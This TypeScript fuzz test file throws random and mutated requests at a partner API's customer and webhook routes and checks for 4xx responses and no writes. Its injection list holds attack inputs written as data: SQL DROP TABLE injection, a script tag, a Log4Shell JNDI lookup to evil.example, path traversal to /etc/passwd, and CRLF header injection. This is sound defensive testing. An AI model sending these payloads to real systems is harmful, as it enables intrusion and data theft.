/**
 * Random and mutated requests against every route: whatever a client sends, the answer is a 4xx with
 * the error shape (or a 2xx when the mutation happened to stay valid), never a 5xx, and a rejected
 * request writes nothing.
 */
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { HostResolver } from '../../src/webhooks/url-policy.js';
import { expectErrorShape, startService, type TestService, validThirdParty } from './harness.js';

const TYPE = 'THIRD PARTY CUSTOMER STATUS';
const resolver: HostResolver = async (host) =>
  host === 'partner.example' ? ['93.184.216.34'] : ['10.0.0.1'];

const INJECTIONS = [
  "'; DROP TABLE third_parties; --",
  '" OR "1"="1',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, literally
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '\u0000',
  '%00',
  '\r\nSet-Cookie: x=1',
  '__proto__',
  'constructor',
  '\u202e\u2066',
  '𝕳𝖊𝖑𝖑𝖔 👩‍👩‍👧‍👦',
  '١٢٣',
];

const DEEP = '__deeply_nested__:';

/** Replaces the deep-nesting markers in JSON text by that many nested arrays. */
function deepen(raw: string): string {
  return raw.replace(
    new RegExp(`"${DEEP}(\\d+)"`, 'g'),
    (_, n: string) => '['.repeat(Number(n)) + ']'.repeat(Number(n)),
  );
}

/** Values that break naive code: injections, huge, deep, wrong types, odd numbers, unicode. */
const nasty: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...INJECTIONS),
  fc.constantFrom(
    null,
    true,
    false,
    0,
    -1,
    1e308,
    -1e308,
    5e-324,
    Number.MAX_SAFE_INTEGER + 2,
    '',
    ' ',
    [],
    {},
  ),
  fc.string({ unit: 'binary', maxLength: 50 }),
  fc.integer({ min: 1, max: 60_000 }).map((n) => 'x'.repeat(n)),
  fc
    .integer({ min: 1, max: 20_000 })
    // Deep nesting is spliced into the raw text (see `deepen`): building it as a value would overflow here.
    .map((depth) => `${DEEP}${depth}`),
  fc.jsonValue({ maxDepth: 4 }),
);

type Json = Record<string, unknown> | unknown[];

/** Every path to a value inside `value`. */
function paths(value: unknown, prefix: (string | number)[] = []): (string | number)[][] {
  const out: (string | number)[][] = [prefix];
  if (Array.isArray(value)) {
    for (const [i, v] of value.entries()) out.push(...paths(v, [...prefix, i]));
  } else if (value !== null && typeof value === 'object') {
    for (const [k, v] of Object.entries(value)) out.push(...paths(v, [...prefix, k]));
  }
  return out;
}

/** `base` with the value at one path replaced, deleted, or joined by an unknown field. */
function mutate(base: Json): fc.Arbitrary<unknown> {
  const all = paths(base);
  return fc
    .tuple(fc.constantFrom(...all), nasty, fc.constantFrom('replace', 'delete', 'add'))
    .map(([path, v, op]) => {
      const copy = structuredClone(base) as Json;
      if (path.length === 0) return op === 'replace' ? v : copy;
      let parent: unknown = copy;
      for (const key of path.slice(0, -1)) parent = (parent as Record<string | number, unknown>)[key];
      const last = path[path.length - 1] as string | number;
      const target = parent as Record<string | number, unknown>;
      if (op === 'replace') target[last] = v;
      else if (op === 'delete') delete target[last];
      else if (typeof target === 'object' && !Array.isArray(target)) target[`extra_${String(last)}`] = v;
      return copy;
    });
}

/** A body: a mutation of a valid one, random JSON, or raw text that may not be JSON at all. */
function bodies(valid: Json): fc.Arbitrary<{ raw: string }> {
  return fc.oneof(
    { weight: 6, arbitrary: mutate(valid).map((v) => ({ raw: deepen(JSON.stringify(v) ?? 'null') })) },
    { weight: 2, arbitrary: fc.jsonValue().map((v) => ({ raw: JSON.stringify(v) })) },
    { weight: 1, arbitrary: fc.string({ maxLength: 200 }).map((raw) => ({ raw })) },
  );
}

describe('fuzz: every route answers bad input with a 4xx and writes nothing', () => {
  let s: TestService;
  let token: string;
  let endpointId: string;
  const base = '/api/v1/customers/FUZZ';

  beforeAll(async () => {
    s = await startService({ allowPrivateEndpoints: false, resolveHost: resolver });
    token = await s.partner('FUZZ');
    await s.call('POST', `${base}/third-parties`, { token, body: validThirdParty('FUZZ_1') });
    const ep = await s.call('POST', `${base}/webhooks`, {
      token,
      body: { url: 'https://partner.example/hook', event_types: [TYPE] },
    });
    endpointId = ep.json().id;
  });
  afterAll(() => s.close());

  /** Everything a request could write, as one comparable snapshot. */
  async function snapshot(): Promise<string> {
    const [partners, thirdParties, endpoints, events] = await Promise.all([
      s.store.listPartners(),
      s.store.listThirdParties('FUZZ', { limit: 1000, offset: 0 }),
      s.store.listEndpoints('FUZZ'),
      s.store.listEvents('FUZZ', { limit: 100 }),
    ]);
    return JSON.stringify([
      partners.map((p) => p.customerId),
      thirdParties.items.map((t) => [t.clientCustomerRef, t.status, t.updatedAt]),
      endpoints.map((e) => [
        e.id,
        e.url,
        e.enabled,
        e.description,
        e.eventTypes,
        e.secrets.length,
        e.updatedAt,
      ]),
      events.items.map((e) => e.eventId),
    ]);
  }

  const routes: {
    name: string;
    method: 'POST' | 'PATCH';
    url: () => string;
    token: () => string;
    valid: Json;
  }[] = [
    {
      name: 'POST third-parties',
      method: 'POST',
      url: () => `${base}/third-parties`,
      token: () => token,
      valid: validThirdParty('FUZZ_NEW'),
    },
    {
      name: 'POST webhooks',
      method: 'POST',
      url: () => `${base}/webhooks`,
      token: () => token,
      valid: { url: 'https://partner.example/new', event_types: [TYPE], description: 'd' },
    },
    {
      name: 'PATCH webhook',
      method: 'PATCH',
      url: () => `${base}/webhooks/${endpointId}`,
      token: () => token,
      valid: { url: 'https://partner.example/changed', event_types: [TYPE], description: 'x', enabled: true },
    },
    {
      name: 'POST rotate-secret',
      method: 'POST',
      url: () => `${base}/webhooks/${endpointId}/rotate-secret`,
      token: () => token,
      valid: {},
    },
    {
      name: 'POST decision',
      method: 'POST',
      url: () => '/api/v1/admin/customers/FUZZ/third-parties/FUZZ_1/decision',
      token: () => s.adminToken,
      valid: { status: 'REJECTED', reasons: [{ code: 'COMPLIANCE_CHECK_FAILED', reason: 'Failed' }] },
    },
    {
      name: 'POST admin partners',
      method: 'POST',
      url: () => '/api/v1/admin/partners',
      token: () => s.adminToken,
      valid: { customer_id: 'FUZZ_PARTNER', name: 'n' },
    },
  ];

  for (const route of routes) {
    it(`${route.name}`, async () => {
      await fc.assert(
        fc.asyncProperty(
          bodies(route.valid),
          fc.option(fc.stringMatching(/^[\x20-\x7e]{0,300}$/), { nil: undefined }),
          async ({ raw }, idempotencyKey) => {
            const before = await snapshot();
            const headers: Record<string, string> = { 'content-type': 'application/json' };
            if (idempotencyKey !== undefined) headers['idempotency-key'] = idempotencyKey;
            const res = await s.call(route.method, route.url(), { token: route.token(), body: raw, headers });
            expect(res.statusCode, res.body).toBeLessThan(500);
            if (res.statusCode >= 300) {
              expect(res.statusCode).toBeGreaterThanOrEqual(400);
              expectErrorShape(res);
              expect(await snapshot()).toBe(before);
            }
          },
        ),
        { numRuns: 200 },
      );
    });
  }

  it('GET routes with random paths and query strings', async () => {
    const segment = fc.oneof(
      fc.constantFrom(...INJECTIONS).map(encodeURIComponent),
      fc.string({ maxLength: 40 }).map(encodeURIComponent),
      fc.constantFrom('%', '%zz', '..', '%2e%2e', '%E0%A4%A', '%00'),
    );
    const query = fc.array(fc.tuple(fc.constantFrom('status', 'page', 'limit', 'cursor', 'x'), segment), {
      maxLength: 4,
    });
    const templates = [
      (a: string) => `${base}/third-parties/${a}`,
      () => `${base}/third-parties`,
      (a: string) => `${base}/webhooks/${a}`,
      (a: string) => `${base}/webhooks/${a}/deliveries`,
      () => `${base}/events`,
      (a: string) => `${base}/events/${a}`,
      (a: string) => `/api/v1/customers/${a}/webhooks`,
    ];
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...templates), segment, query, async (template, a, q) => {
        const url = `${template(a)}?${q.map(([k, v]) => `${k}=${v}`).join('&')}`;
        const res = await s.call('GET', url, { token });
        expect(res.statusCode, `${url} → ${res.body}`).toBeLessThan(500);
        if (res.statusCode >= 300) expectErrorShape(res);
      }),
      { numRuns: 300 },
    );
  });
});
